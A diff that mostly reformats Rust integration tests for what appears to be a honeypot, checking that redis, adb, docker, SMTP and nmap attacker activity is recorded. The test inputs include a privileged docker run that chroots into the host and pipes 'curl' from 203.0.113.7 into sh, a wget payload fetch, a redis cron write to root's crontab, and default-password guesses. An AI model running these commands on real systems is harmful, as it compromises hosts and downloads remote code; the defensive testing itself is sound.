@@ -17,8 +17,10 @@ use tokio::process::Command;
 
 const CLIENT_TIMEOUT: Duration = Duration::from_secs(30);
 
-/// (user, password, success, extra) of every login.
-fn logins(evs: &[Event]) -> Vec<(String, String, bool, Vec<(String, String)>)> {
+/// (user, password, success, extra) of a login.
+type Login = (String, String, bool, Vec<(String, String)>);
+
+fn logins(evs: &[Event]) -> Vec<Login> {
     evs.iter()
         .filter_map(|e| match &e.detail {
             Detail::Login { username, secret: Secret::Password(p), success, extra } => {
@@ -127,17 +129,18 @@ async fn redis_cli_cryptominer_campaign_rogue_master_module_load_and_auth() {
         c.arg("ping");
         c
     };
-    for (args, refused) in
-        [(&["-a", "hunter2"][..], true), (&["--user", "admin", "--pass", "s3cret"], true), (&["--user", "root", "--pass", "root"], false)]
-    {
+    for (args, refused) in [
+        (&["-a", "hunter2"][..], true),
+        (&["--user", "admin", "--pass", "s3cret"], true),
+        (&["--user", "root", "--pass", "root"], false),
+    ] {
         let out = run_client(auth(args), CLIENT_TIMEOUT).await;
         let text = format!("{}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
         assert_eq!(text.contains("WRONGPASS"), refused, "{args:?}: {text}");
     }
 
-    let evs = h
-        .wait_for(Duration::from_secs(10), |evs| logins(evs).len() >= 3 && !samples(evs, "redis").is_empty())
-        .await;
+    let evs =
+        h.wait_for(Duration::from_secs(10), |evs| logins(evs).len() >= 3 && !samples(evs, "redis").is_empty()).await;
     let write = exploit(&evs, "redis-cron-write").expect("cron write exploit");
     assert_eq!(field(&write, "path"), "/var/spool/cron/root");
     assert_eq!(field(&write, "command"), "SAVE");
@@ -154,14 +157,21 @@ async fn redis_cli_cryptominer_campaign_rogue_master_module_load_and_auth() {
     assert!(cmds.contains(&r#""save""#.to_string()), "{cmds:?}");
     // The cron line and the streamed value are kept, byte for byte.
     let kept = samples(&evs, "redis");
-    assert!(kept.contains(&(sha256_hex(cron.as_bytes()), cron.len() as u64, "x".into(), SampleOutcome::Kept)), "{kept:?}");
+    assert!(
+        kept.contains(&(sha256_hex(cron.as_bytes()), cron.len() as u64, "x".into(), SampleOutcome::Kept)),
+        "{kept:?}"
+    );
     assert!(kept.contains(&(sha256_hex(&big), big.len() as u64, "payload".into(), SampleOutcome::Kept)), "{kept:?}");
     assert_kept(&h, cron.as_bytes());
     assert_kept(&h, &big);
     let l: Vec<(String, String, bool)> = logins(&evs).into_iter().map(|(u, p, s, _)| (u, p, s)).collect();
     assert_eq!(
         l,
-        vec![("default".into(), "hunter2".into(), false), ("admin".into(), "s3cret".into(), false), ("root".into(), "root".into(), true)]
+        vec![
+            ("default".into(), "hunter2".into(), false),
+            ("admin".into(), "s3cret".into(), false),
+            ("root".into(), "root".into(), true)
+        ]
     );
 }
 
@@ -217,7 +227,9 @@ async fn adb_connect_shell_and_push_are_recorded_and_the_pushed_file_kept() {
     let file: Vec<u8> = (0..300_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
     let local = dir.path().join("x");
     std::fs::write(&local, &file).unwrap();
-    let out = run_client(adb.cmd(&["-s", &device, "push", local.to_str().unwrap(), "/data/local/tmp/x"]), CLIENT_TIMEOUT).await;
+    let out =
+        run_client(adb.cmd(&["-s", &device, "push", local.to_str().unwrap(), "/data/local/tmp/x"]), CLIENT_TIMEOUT)
+            .await;
     assert!(out.status.success(), "adb push: {}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
     drop(adb);
 
@@ -255,19 +267,29 @@ async fn docker_cli_version_privileged_run_exec_and_pull_are_recorded() {
     let out = run_client(docker(&["version", "--format", "{{.Server.Version}} {{.Server.Os}}"]), CLIENT_TIMEOUT).await;
     assert_eq!(stdout(&out).trim(), "26.1.4 linux", "{}", String::from_utf8_lossy(&out.stderr));
     let payload = r#"chroot /host sh -c "curl -fsSL http://203.0.113.7/d.sh | sh""#;
-    let out = run_client(docker(&["run", "-d", "--privileged", "-v", "/:/host", "alpine", "sh", "-c", payload]), CLIENT_TIMEOUT).await;
+    let out = run_client(
+        docker(&["run", "-d", "--privileged", "-v", "/:/host", "alpine", "sh", "-c", payload]),
+        CLIENT_TIMEOUT,
+    )
+    .await;
     let id = stdout(&out).trim().to_string();
-    assert!(id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()), "docker run: {id} {}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()),
+        "docker run: {id} {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let out = run_client(docker(&["ps", "--format", "{{.Image}} {{.Status}}"]), CLIENT_TIMEOUT).await;
     assert!(stdout(&out).contains("alpine Up"), "the attacker's container runs: {}", stdout(&out));
-    let out = run_client(docker(&["exec", "web", "sh", "-c", "echo ok; wget http://203.0.113.7/e -O /tmp/e"]), CLIENT_TIMEOUT).await;
+    let out = run_client(
+        docker(&["exec", "web", "sh", "-c", "echo ok; wget http://203.0.113.7/e -O /tmp/e"]),
+        CLIENT_TIMEOUT,
+    )
+    .await;
     assert_eq!(stdout(&out).trim(), "ok", "{}", String::from_utf8_lossy(&out.stderr));
     let out = run_client(docker(&["pull", "alpine:3.19"]), CLIENT_TIMEOUT).await;
     assert!(out.status.success(), "docker pull: {}", String::from_utf8_lossy(&out.stderr));
 
-    let evs = h
-        .wait_for(Duration::from_secs(10), |evs| downloads(evs).iter().any(|(_, t)| t == "docker-pull"))
-        .await;
+    let evs = h.wait_for(Duration::from_secs(10), |evs| downloads(evs).iter().any(|(_, t)| t == "docker-pull")).await;
     let create = exploit(&evs, "docker-container-create").expect("create recorded");
     assert_eq!(field(&create, "image"), "alpine");
     assert_eq!(field(&create, "cmd"), format!("sh -c {payload}"));
@@ -283,7 +305,11 @@ async fn docker_cli_version_privileged_run_exec_and_pull_are_recorded() {
     let body = String::from_utf8(body.expect("create body kept")).unwrap();
     assert!(body.contains(r#""Privileged":true"#) && body.contains(r#""Image":"alpine""#), "{body}");
     assert!(evs.iter().any(|e| matches!(&e.detail, Detail::HttpRequest { method, path, .. } if method == "POST" && path.ends_with("/containers/create"))));
-    assert!(commands(&evs).contains(&"sh -c echo ok; wget http://203.0.113.7/e -O /tmp/e".to_string()), "{:?}", commands(&evs));
+    assert!(
+        commands(&evs).contains(&"sh -c echo ok; wget http://203.0.113.7/e -O /tmp/e".to_string()),
+        "{:?}",
+        commands(&evs)
+    );
     let dl = downloads(&evs);
     for want in [
         ("http://203.0.113.7/d.sh", "curl"),
@@ -328,7 +354,16 @@ async fn swaks_auth_and_open_relay_test_mail_with_attachment_is_kept() {
     std::fs::write(&attachment, b"%PDF-1.4\n.not really\n").unwrap();
     let swaks = |auth: &str, user: &str, pass: &str| {
         let mut c = Command::new("swaks");
-        c.args(["--server", &server, "--from", "spam@203.0.113.9", "--to", "victim@example.org", "--helo", "relaytest"]);
+        c.args([
+            "--server",
+            &server,
+            "--from",
+            "spam@203.0.113.9",
+            "--to",
+            "victim@example.org",
+            "--helo",
+            "relaytest",
+        ]);
         c.args(["--auth", auth, "--auth-user", user, "--auth-password", pass, "--auth-optional"]);
         c.args(["--header", "Subject: relay test 203.0.113.9", "--body", "hello\n.dotted line\n..two dots\n"]);
         c.arg("--attach").arg(&attachment);
@@ -346,8 +381,14 @@ async fn swaks_auth_and_open_relay_test_mail_with_attachment_is_kept() {
     let evs = h.wait_for(Duration::from_secs(10), |evs| samples(evs, "smtp-body").len() >= 2).await;
     let l = logins(&evs);
     assert_eq!(l.len(), 2, "{l:?}");
-    assert_eq!((l[0].0.as_str(), l[0].1.as_str(), l[0].2, field(&l[0].3, "method")), ("admin", "hunter2", false, "smtp-login"));
-    assert_eq!((l[1].0.as_str(), l[1].1.as_str(), l[1].2, field(&l[1].3, "method")), ("root", "root", true, "smtp-plain"));
+    assert_eq!(
+        (l[0].0.as_str(), l[0].1.as_str(), l[0].2, field(&l[0].3, "method")),
+        ("admin", "hunter2", false, "smtp-login")
+    );
+    assert_eq!(
+        (l[1].0.as_str(), l[1].1.as_str(), l[1].2, field(&l[1].3, "method")),
+        ("root", "root", true, "smtp-plain")
+    );
     assert_eq!(field(&l[0].3, "helo"), "relaytest");
     let relay = exploit(&evs, "smtp-relay-attempt").expect("relay test recorded");
     assert_eq!(
@@ -370,7 +411,14 @@ async fn swaks_auth_and_open_relay_test_mail_with_attachment_is_kept() {
     cfg.smtp.relay = SmtpRelay::Refuse;
     let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
     let mut c = Command::new("swaks");
-    c.args(["--server", &format!("127.0.0.1:{}", h.port(Protocol::Smtp)), "--from", "a@203.0.113.9", "--to", "b@example.org"]);
+    c.args([
+        "--server",
+        &format!("127.0.0.1:{}", h.port(Protocol::Smtp)),
+        "--from",
+        "a@203.0.113.9",
+        "--to",
+        "b@example.org",
+    ]);
     let out = run_client(c, CLIENT_TIMEOUT).await;
     assert!(stdout(&out).contains("554 5.7.1 <b@example.org>: Relay access denied"), "{}", stdout(&out));
     let evs = h.wait_connections(1, Duration::from_secs(10)).await;
@@ -430,7 +478,10 @@ async fn nmap_names_each_service_with_a_believable_product() {
         ("2525/tcp", "smtp", "Postfix smtpd"),
     ] {
         let line = text.lines().find(|l| l.starts_with(port)).unwrap_or("");
-        assert!(line.contains(" open ") && line.contains(service) && line.contains(product), "{port}: {product:?} in\n{text}");
+        assert!(
+            line.contains(" open ") && line.contains(service) && line.contains(product),
+            "{port}: {product:?} in\n{text}"
+        );
     }
     // nmap's probes were sessions like any other.
     let _ = h.wait_connections(4, Duration::from_secs(10)).await;
